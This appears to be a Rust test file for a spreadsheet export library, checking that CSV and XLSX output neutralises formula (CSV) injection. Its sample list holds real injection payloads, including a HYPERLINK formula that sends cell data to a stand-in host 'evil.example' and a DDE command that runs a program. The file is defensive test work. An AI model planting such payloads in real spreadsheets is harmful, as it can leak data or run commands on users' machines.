//! OWASP's CSV injection: notes, subjects and unit names that start like a
//! formula are written so that no spreadsheet runs them, checked with
//! independent readers (the csv crate, calamine).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use anfang_core::Lang;
use anfang_export::{BOM, Format, export, is_formula_like, unguard};
use calamine::{Data, Reader, Xlsx, open_workbook};
use common::{options, source};

/// What volunteers and inspectors could type, and attackers do.
const NASTY: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
];

fn nasty_source() -> anfang_export::MemorySource {
    let mut source = source();
    for (row, text) in source.rows.iter_mut().zip(NASTY) {
        row.note = text.to_owned();
        row.subject = Some(format!("\r{text}"));
    }
    source.rows[4].unit = "=1+2".into();
    source
}

#[test]
fn csv_cells_never_start_like_a_formula_and_read_back_to_the_text() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("x.csv");
    export(
        &nasty_source(),
        &options(Lang::Zh),
        Format::Csv,
        &out,
        &mut |_, _| {},
    )
    .unwrap();
    let bytes = std::fs::read(&out).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[BOM.len()..]);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 5);
    for row in &rows {
        for cell in row {
            assert!(!is_formula_like(cell), "live formula {cell:?}");
        }
    }
    // Note is column 11, subject 10: the import's reading gives the text back.
    for (row, text) in rows.iter().zip(NASTY) {
        assert_eq!(row.get(11), Some(format!("'{text}").as_str()));
        assert_eq!(unguard(&row[11]), text);
        assert_eq!(unguard(&row[10]), format!("\r{text}"));
    }
    assert_eq!(unguard(&rows[4][1]), "=1+2");
}

#[test]
fn xlsx_has_no_formula_and_formula_like_text_is_quote_prefixed() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("x.xlsx");
    export(
        &nasty_source(),
        &options(Lang::Zh),
        Format::Xlsx,
        &out,
        &mut |_, _| {},
    )
    .unwrap();
    let mut book: Xlsx<_> = open_workbook(&out).unwrap();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "sheet {name} holds a formula"
        );
    }
    let findings = book.worksheet_range("问题清单").unwrap();
    let notes: Vec<&Data> = (2..7).map(|r| findings.get((r, 11)).unwrap()).collect();
    for (note, text) in notes.iter().zip(NASTY) {
        assert_eq!(*note, &Data::String(text.to_owned()), "text kept as it is");
    }
    // The cells carry Excel's quote prefix (what typing a leading ' stores).
    let mut archive = zip::ZipArchive::new(std::fs::File::open(&out).unwrap()).unwrap();
    let mut styles = String::new();
    std::io::Read::read_to_string(&mut archive.by_name("xl/styles.xml").unwrap(), &mut styles)
        .unwrap();
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
}
